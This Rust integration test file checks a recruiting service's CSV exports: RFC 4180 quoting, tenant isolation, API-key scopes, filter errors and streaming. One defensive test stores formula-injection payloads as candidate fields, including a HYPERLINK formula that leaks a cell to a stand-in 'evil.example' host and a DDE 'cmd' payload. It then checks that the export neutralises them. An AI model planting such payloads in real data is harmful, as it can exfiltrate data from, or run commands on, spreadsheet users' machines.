//! CSV exports (`GET …/export.csv`): every row a list's filters match, as RFC 4180 CSV with a
//! header row, cells that could run as spreadsheet formulas neutralised, streamed page by page;
//! the list's auth, tenancy and filter errors.

mod common;

use common::{spawn_app, Session, TestApp, PASSWORD};
use reqwest::Method;
use serde_json::{json, Value};

/// An export as received: status, headers and body text.
struct Download {
    status: u16,
    content_type: String,
    disposition: String,
    /// Sent in chunks as it is made, its length unknown beforehand.
    streamed: bool,
    text: String,
}

impl Download {
    fn ok(&self) -> Vec<Vec<String>> {
        assert_eq!(self.status, 200, "{}", self.text);
        assert_eq!(self.content_type, "text/csv; charset=utf-8");
        parse(&self.text)
    }
}

async fn download(app: &TestApp, path: &str, token: &str) -> Download {
    let response = app.client.get(format!("{}{path}", app.base)).bearer_auth(token).send().await.unwrap();
    let header = |name: &str| response.headers().get(name).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    let (status, content_type, disposition) =
        (response.status().as_u16(), header("content-type"), header("content-disposition"));
    let streamed = header("transfer-encoding") == "chunked" && header("content-length").is_empty();
    Download { status, content_type, disposition, streamed, text: response.text().await.unwrap() }
}

/// RFC 4180, strictly: every record ends with CRLF; a bare CR or LF only inside quotes; a quoted
/// field's quotes doubled. Written here, apart from the service's writer, to check it.
fn parse(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut was_quoted = false;
    while let Some(c) = chars.next() {
        match c {
            '"' if field.is_empty() && !was_quoted => {
                was_quoted = true;
                loop {
                    match chars.next().expect("a quoted field is closed") {
                        '"' if chars.peek() == Some(&'"') => {
                            chars.next();
                            field.push('"');
                        }
                        '"' => break,
                        c => field.push(c),
                    }
                }
            }
            ',' => {
                record.push(std::mem::take(&mut field));
                was_quoted = false;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR outside quotes only as part of CRLF");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
                was_quoted = false;
            }
            '\n' => panic!("a bare LF outside quotes in {text:?}"),
            c => {
                assert!(!was_quoted && c != '"', "a quote in an unquoted field, or text after a closing quote");
                field.push(c);
            }
        }
    }
    assert!(field.is_empty() && record.is_empty(), "the last record ends with CRLF");
    let width = records.first().map(Vec::len).expect("a header row");
    assert!(records.iter().all(|r| r.len() == width), "every row has as many fields as the header");
    records
}

/// The value of `column` in each row (the header row left out).
fn column(records: &[Vec<String>], column: &str) -> Vec<String> {
    let i = records[0].iter().position(|c| c == column).unwrap_or_else(|| panic!("no column {column}"));
    records[1..].iter().map(|r| r[i].clone()).collect()
}

/// Every id a list answers for this query string, page after page, in its order.
async fn list_ids(app: &TestApp, list: &str, query: &str, token: &str) -> Vec<String> {
    let mut ids = Vec::new();
    let mut cursor = String::new();
    loop {
        let page = app.get(&format!("{list}?limit=100&{query}{cursor}"), token).await.ok(200).clone();
        ids.extend(page["items"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap().to_owned()));
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return ids,
        }
    }
}

async fn candidate(app: &TestApp, token: &str, body: Value) -> String {
    app.create("/api/v1/candidates", token, body).await["id"].as_str().unwrap().to_owned()
}

async fn recruiter(app: &TestApp, admin: &Session) -> String {
    let email = format!("rita.{}@lakeside.example", admin.agency_id);
    let invite = json!({"name": "Rita Recruiter", "email": email, "password": PASSWORD, "role": "recruiter"});
    app.post("/api/v1/users", &admin.access, invite).await.ok(201);
    let login = app.public_post("/api/v1/auth/login", json!({"email": email, "password": PASSWORD})).await;
    login.ok(200)["access_token"].as_str().unwrap().to_owned()
}

async fn api_key(app: &TestApp, admin: &str, scopes: &[&str]) -> String {
    let reply = app.post("/api/v1/api-keys", admin, json!({"name": "Sheets sync", "scopes": scopes})).await;
    reply.ok(201)["secret"].as_str().unwrap().to_owned()
}

const CANDIDATE_COLUMNS: &str = "id,full_name,email,phone,location,remote_ok,status,headline,skills,certifications,\
tags,it_experience_months,healthcare_experience_months,desired_rate_cents,min_rate_cents,available_from,\
current_resume_id,notes,created_at,updated_at,version\r\n";

#[actix_web::test]
async fn a_candidate_export_is_a_csv_download_with_a_header_row_and_every_field() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    let sam = app
        .create(
            "/api/v1/candidates",
            &s.access,
            json!({
                "full_name": "Sam Okafor", "email": "sam@example.com", "phone": "402 555 0100",
                "location": "Omaha, NE", "remote_ok": true, "headline": "Network administrator",
                "skills": [{"name": "Cisco", "years": 6}, {"name": "HL7 v2"}],
                "certifications": ["CCNA"], "tags": ["crossover", "rural-ok"],
                "it_experience_months": 84, "healthcare_experience_months": 0,
                "desired_rate_cents": 5200, "min_rate_cents": 4500, "available_from": "2027-01-04",
            }),
        )
        .await;
    let bare = candidate(&app, &s.access, json!({"full_name": "Bea Bare"})).await;

    let reply = download(&app, "/api/v1/candidates/export.csv", &s.access).await;

    let records = reply.ok();
    assert_eq!(reply.disposition, "attachment; filename=\"candidates.csv\"");
    assert!(reply.text.starts_with(CANDIDATE_COLUMNS), "{}", reply.text);
    assert_eq!(column(&records, "id"), [bare.clone(), sam["id"].as_str().unwrap().to_owned()], "newest first");
    let sam_id = sam["id"].as_str().unwrap();
    let expected = [
        sam_id,
        "Sam Okafor",
        "sam@example.com",
        "402 555 0100",
        "Omaha, NE",
        "true",
        "active",
        "Network administrator",
        "Cisco Networking; HL7 v2",
        "CCNA",
        "crossover; rural-ok",
        "84",
        "0",
        "5200",
        "4500",
        "2027-01-04",
        "",
        "",
        sam["created_at"].as_str().unwrap(),
        sam["updated_at"].as_str().unwrap(),
        "1",
    ];
    assert_eq!(records[2], expected);
    let bare_row: Vec<&str> = records[1][..18].iter().map(String::as_str).collect();
    let empty = "";
    assert_eq!(
        bare_row,
        [
            &bare, "Bea Bare", empty, empty, empty, "false", "active", empty, empty, empty, empty, empty, empty, empty,
            empty, empty, empty, empty
        ],
        "absent values are empty fields"
    );
    assert!(records[1][18].ends_with('Z') && records[1][18].contains('T'), "RFC 3339 UTC: {}", records[1][18]);
}

#[actix_web::test]
async fn commas_quotes_and_line_breaks_in_text_are_quoted_and_read_back_unchanged() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    let name = "Okafor, Sam \"The Router\"";
    let notes = "Prefers nights.\nAsk about, \"Epic\".\r\nSecond shift ok";
    candidate(&app, &s.access, json!({"full_name": name, "notes": notes})).await;

    let reply = download(&app, "/api/v1/candidates/export.csv", &s.access).await;

    let records = reply.ok();
    assert!(reply.text.contains(",\"Okafor, Sam \"\"The Router\"\"\","), "{}", reply.text);
    assert_eq!(column(&records, "full_name"), [name]);
    assert_eq!(column(&records, "notes"), [notes]);
}

#[actix_web::test]
async fn cells_that_begin_like_a_formula_get_a_quote_in_front_and_numbers_do_not() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    candidate(
        &app,
        &s.access,
        json!({
            "full_name": hyperlink, "phone": "+1 402 555 0100", "headline": "-2", "location": "@SUM(A1:A9)",
            // Leading whitespace is trimmed when text is stored, so this reaches the export as `=cmd`.
            "notes": "\t=cmd|' /C calc'!A0",
            "tags": ["=1+1"], "skills": [{"name": "@risk modelling"}],
            "desired_rate_cents": 5200, "min_rate_cents": 0,
        }),
    )
    .await;

    let reply = download(&app, "/api/v1/candidates/export.csv", &s.access).await;

    let records = reply.ok();
    let cell = |name: &str| column(&records, name).remove(0);
    assert_eq!(cell("full_name"), format!("'{hyperlink}"));
    assert_eq!(cell("phone"), "'+1 402 555 0100");
    assert_eq!(cell("headline"), "'-2");
    assert_eq!(cell("location"), "'@SUM(A1:A9)");
    assert_eq!(cell("notes"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell("tags"), "'=1+1");
    assert_eq!(cell("skills"), "'@risk modelling");
    assert_eq!(
        (cell("desired_rate_cents"), cell("min_rate_cents")),
        ("5200".into(), "0".into()),
        "numbers as they are"
    );
    for row in &records[1..] {
        for value in row {
            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell begins like a formula: {value:?}");
        }
    }
}

#[actix_web::test]
async fn candidate_filters_and_search_export_the_same_candidates_in_the_same_order_as_the_list() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    candidate(
        &app,
        &s.access,
        json!({"full_name": "Ana Epic", "headline": "Epic Cadence analyst", "remote_ok": true,
               "skills": [{"name": "Epic Cadence"}, {"name": "HL7 2.x"}], "tags": ["crossover"],
               "min_rate_cents": 4500, "desired_rate_cents": 5200, "available_from": "2027-01-04"}),
    )
    .await;
    candidate(
        &app,
        &s.access,
        json!({"full_name": "Ben Cerner", "headline": "Cerner PowerChart builder, some Epic", "status": "archived",
               "skills": [{"name": "Cerner PowerChart"}], "min_rate_cents": 6000, "desired_rate_cents": 7000}),
    )
    .await;
    candidate(
        &app,
        &s.access,
        json!({"full_name": "Cara Meditech", "headline": "Meditech and HL7 interfaces, Epic training",
               "skills": [{"name": "Meditech"}, {"name": "HL7 v2"}], "tags": ["rural-ok"], "remote_ok": true,
               "min_rate_cents": 5000, "desired_rate_cents": 5500, "available_from": "2027-03-01"}),
    )
    .await;

    for query in [
        "",
        "skill=HL7%20v2",
        "skill=HL7%20v2&skill=Meditech",
        "skill=No%20Such%20Skill",
        "status=archived",
        "tag=crossover",
        "remote_ok=false",
        "min_rate_cents_lte=5000",
        "desired_rate_cents_gte=5500",
        "available_before=2027-02-01",
        "q=epic",
        "q=hl7%20-cerner",
        "q=epic%20OR%20meditech&status=active",
        "q=",
    ] {
        let listed = list_ids(&app, "/api/v1/candidates", query, &s.access).await;
        let records = download(&app, &format!("/api/v1/candidates/export.csv?{query}"), &s.access).await.ok();
        assert_eq!(column(&records, "id"), listed, "{query}");
    }
    // Ana, the oldest, has two of the words and Cara one: relevance first, not newest first.
    let query = "q=cadence%20OR%20analyst%20OR%20meditech";
    let searched = download(&app, &format!("/api/v1/candidates/export.csv?{query}"), &s.access).await.ok();
    assert_eq!(column(&searched, "full_name"), ["Ana Epic", "Cara Meditech"], "by relevance");
    assert_eq!(column(&searched, "id"), list_ids(&app, "/api/v1/candidates", query, &s.access).await);
}

#[actix_web::test]
async fn another_agencys_rows_never_appear_in_an_export() {
    let app = spawn_app().await;
    let (ours, theirs) = app.two_agencies().await;
    let mine = candidate(&app, &ours.access, json!({"full_name": "Ana Ours", "skills": [{"name": "Epic"}]})).await;
    candidate(&app, &theirs.access, json!({"full_name": "Zed Theirs", "skills": [{"name": "Epic"}]})).await;
    let client = app.create("/api/v1/clients", &theirs.access, json!({"name": "Their Clinic"})).await;
    app.create("/api/v1/job-orders", &theirs.access, json!({"client_id": client["id"], "title": "Epic analyst"})).await;

    for query in ["", "?q=epic", "?skill=Epic"] {
        let records = download(&app, &format!("/api/v1/candidates/export.csv{query}"), &ours.access).await.ok();
        assert_eq!(column(&records, "id"), [mine.as_str()], "{query}");
    }
    let orders = download(&app, "/api/v1/job-orders/export.csv", &ours.access).await.ok();
    assert_eq!(orders.len(), 1, "only the header");
    let by_their_client = format!("/api/v1/job-orders/export.csv?client_id={}", client["id"].as_str().unwrap());
    assert_eq!(download(&app, &by_their_client, &ours.access).await.ok().len(), 1);
    assert_eq!(download(&app, "/api/v1/placements/export.csv", &ours.access).await.ok().len(), 1);
}

#[actix_web::test]
async fn a_recruiter_and_a_read_key_may_export_and_a_matches_read_key_may_not() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    candidate(&app, &s.access, json!({"full_name": "Ana Epic"})).await;
    let rita = recruiter(&app, &s).await;
    let reader = api_key(&app, &s.access, &["read"]).await;
    let matcher = api_key(&app, &s.access, &["matches:read"]).await;

    for export in ["candidates", "job-orders", "placements"] {
        let path = format!("/api/v1/{export}/export.csv");
        for token in [&rita, &reader] {
            download(&app, &path, token).await.ok();
        }
        let refused = app.get(&path, &matcher).await;
        assert!(refused.problem(403)["detail"].as_str().unwrap().contains("`read`"), "{}", refused.body);
        app.request(Method::GET, &path, None, None, &[]).await.problem(401);
    }
    let records = download(&app, "/api/v1/candidates/export.csv", &reader).await.ok();
    assert_eq!(column(&records, "full_name"), ["Ana Epic"]);
}

#[actix_web::test]
async fn a_bad_filter_is_the_lists_problem_document_and_no_csv() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;

    for (path, field) in [
        ("/api/v1/candidates/export.csv?status=hired", "status"),
        ("/api/v1/candidates/export.csv?q=%22epic", "q"),
        ("/api/v1/candidates/export.csv?min_rate_cents_lte=cheap", "min_rate_cents_lte"),
        ("/api/v1/candidates/export.csv?available_before=soon", "available_before"),
        ("/api/v1/candidates/export.csv?remote_ok=yes", "remote_ok"),
        ("/api/v1/candidates/export.csv?limit=10", "limit"),
        ("/api/v1/candidates/export.csv?cursor=azE6NDI", "cursor"),
        ("/api/v1/job-orders/export.csv?status=done", "status"),
        ("/api/v1/job-orders/export.csv?max_rate_cents_gte=-1", "max_rate_cents_gte"),
        ("/api/v1/placements/export.csv?start_from=tomorrow", "start_from"),
        ("/api/v1/placements/export.csv?limit=5", "limit"),
    ] {
        let reply = app.get(path, &s.access).await;
        reply.problem(400);
        assert_eq!(reply.error_fields(), [field], "{path}");
        let list = path.replace("/export.csv", "");
        if !["limit", "cursor"].contains(&field) {
            assert_eq!(app.get(&list, &s.access).await.problem(400), &reply.body, "the list's own answer: {list}");
        }
    }
}

#[actix_web::test]
async fn the_export_paths_are_not_ids_and_answer_only_get_and_head() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    candidate(&app, &s.access, json!({"full_name": "Ana Epic"})).await;

    let head = app.request(Method::HEAD, "/api/v1/candidates/export.csv", Some(&s.access), None, &[]).await;
    assert_eq!(head.status, 200);
    assert_eq!(head.header("content-type").as_deref(), Some("text/csv; charset=utf-8"));
    assert_eq!(head.body, Value::Null, "no body");
    for export in ["candidates", "job-orders", "placements"] {
        let path = format!("/api/v1/{export}/export.csv");
        let reply = app.request(Method::DELETE, &path, Some(&s.access), None, &[]).await;
        reply.problem(405);
        assert_eq!(reply.header("allow").as_deref(), Some("GET, HEAD"));
        let reply = download(&app, &path, &s.access).await;
        assert_eq!(reply.disposition, format!("attachment; filename=\"{export}.csv\""));
    }
}

#[actix_web::test]
async fn job_orders_and_placements_export_their_money_exactly() {
    let app = spawn_app().await;
    let s = app.signup("Lakeside", "ada@lakeside.example").await;
    let client = app.create("/api/v1/clients", &s.access, json!({"name": "Cedar, \"Valley\" Clinic"})).await;
    let client_id = client["id"].as_str().unwrap();
    let job = app
        .create(
            "/api/v1/job-orders",
            &s.access,
            json!({"client_id": client_id, "title": "Epic Analyst", "description": "Go-live support,\nnights",
                   "required_skills": [{"name": "Epic Cadence"}, {"name": "SQL"}],
                   "nice_to_have_skills": [{"name": "HL7 v2"}], "max_rate_cents": 6500, "markup_percent": 27.5,
                   "remote": true, "duration_months": 6}),
        )
        .await;
    let job_id = job["id"].as_str().unwrap();
    let other =
        app.create("/api/v1/job-orders", &s.access, json!({"client_id": client_id, "title": "Help desk"})).await;
    let person = candidate(&app, &s.access, json!({"full_name": "Casey, Crossover"})).await;
    let shortlist = format!("/api/v1/job-orders/{job_id}/shortlist");
    app.post(&shortlist, &s.access, json!({"candidate_id": person})).await.ok(201);
    let steps = json!([{"after_months": 6, "pay_rate_cents": 5_500, "bill_rate_cents": 7_150}]);
    let placement = json!({"pay_rate_cents": 5_000, "bill_rate_cents": 6_500, "start_date": "2027-01-31",
                           "step_ups": steps});
    let moved = app
        .patch(&format!("{shortlist}/{person}"), &s.access, json!({"stage": "placed", "placement": placement}))
        .await;
    let placement_id = moved.ok(200)["placement_id"].as_str().unwrap().to_owned();

    let orders = download(&app, "/api/v1/job-orders/export.csv", &s.access).await.ok();
    assert_eq!(
        orders[0].join(","),
        "id,client_id,title,status,location,remote,duration_months,required_skills,nice_to_have_skills,\
         max_rate_cents,effective_max_rate_cents,markup_percent,effective_markup_percent,markup_source,description,\
         created_at,updated_at,version"
    );
    assert_eq!(column(&orders, "id"), [other["id"].as_str().unwrap(), job_id]);
    let row = &orders[2];
    assert_eq!(
        row[..15],
        [
            job_id,
            client_id,
            "Epic Analyst",
            "open",
            "",
            "true",
            "6",
            "Epic Cadence; SQL",
            "HL7 v2",
            "6500",
            "6500",
            "27.50",
            "27.50",
            "job_order",
            "Go-live support,\nnights"
        ]
    );
    assert_eq!(orders[1][11..14], ["", "30.00", "agency"], "no markup of its own: the agency's");
    let filtered = download(&app, "/api/v1/job-orders/export.csv?skill=SQL&remote=true", &s.access).await.ok();
    assert_eq!(column(&filtered, "id"), [job_id]);

    let placements = download(&app, "/api/v1/placements/export.csv", &s.access).await.ok();
    assert_eq!(
        placements[0].join(","),
        "id,job_order_id,job_order_title,client_id,candidate_id,candidate_name,pay_rate_cents,bill_rate_cents,\
         margin_cents,markup_percent,gross_margin_percent,budget_cents,over_budget,start_date,end_date,step_up_count,\
         placed_by_name,created_at,updated_at,version"
    );
    assert_eq!(
        placements[1][..17],
        [
            placement_id.as_str(),
            job_id,
            "Epic Analyst",
            client_id,
            &person,
            "Casey, Crossover",
            "5000",
            "6500",
            "1500",
            "30.00",
            "23.1",
            "6500",
            "false",
            "2027-01-31",
            "",
            "1",
            "Ada Admin"
        ]
    );
    let by_start = download(&app, "/api/v1/placements/export.csv?start_from=2027-02-01", &s.access).await.ok();
    assert_eq!(by_start.len(), 1, "only the header");
}

#[actix_web::test]
async fn an_export_of_more_rows_than_a_page_has_every_row_once_in_the_lists_order() {
    let mut app = spawn_app().await;
    let (ours, theirs) = app.two_agencies().await;
    candidate(&app, &theirs.access, json!({"full_name": "Zed Theirs"})).await;
    let settings = common::settings(&app.database_url, &[]);
    bridgehire::generate::run(settings, 1_200, &ours.email, 11).expect("generates");
    // Generating blocks this thread for seconds (on PostgreSQL past the server's keep-alive), so
    // the client's pooled connections may be closed without it having seen: start afresh.
    app.client = reqwest::Client::new();

    let reply = download(&app, "/api/v1/candidates/export.csv", &ours.access).await;

    let records = reply.ok();
    assert!(reply.streamed, "chunked, without a Content-Length");
    let ids: Vec<i64> = column(&records, "id").iter().map(|id| id.parse().unwrap()).collect();
    assert_eq!(ids.len(), 1_200, "every candidate, over three pages of 500");
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first, each once");
    // A search pages by rank: the export's pages continue where the last one ended, as the list's do.
    let query = "q=%22worked%20daily%22%20OR%20epic";
    let listed = list_ids(&app, "/api/v1/candidates", query, &ours.access).await;
    assert!(listed.len() > 500, "the search spans pages: {}", listed.len());
    let searched = download(&app, &format!("/api/v1/candidates/export.csv?{query}"), &ours.access).await.ok();
    assert_eq!(column(&searched, "id"), listed);
}
